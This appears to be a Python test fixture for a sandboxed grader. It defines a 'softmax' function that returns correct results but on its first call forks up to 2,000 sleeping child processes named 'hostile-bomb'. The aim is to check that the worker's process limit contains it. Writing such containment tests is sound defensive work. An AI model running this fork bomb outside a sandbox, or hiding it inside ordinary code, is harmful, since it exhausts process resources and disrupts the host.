"""softmax forks as many sleeping children as it can (up to 2,000) on its first call: the worker's
process limit stops it early, and every child dies with the worker."""
import ctypes
import os
import time

from _correct_dlai import *  # noqa: F401,F403
from _correct_dlai import softmax as _softmax

VERDICT, WORDS = None, []
PRINTS = ["forked "]
_done = False


def softmax(x):
    global _done
    if not _done:
        _done, forked = True, 0
        for _ in range(2000):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                ctypes.CDLL(None).prctl(15, b"hostile-bomb", 0, 0, 0)
                time.sleep(10**6)
                os._exit(0)
            forked += 1
        print(f"forked {forked} children")
    return _softmax(x)
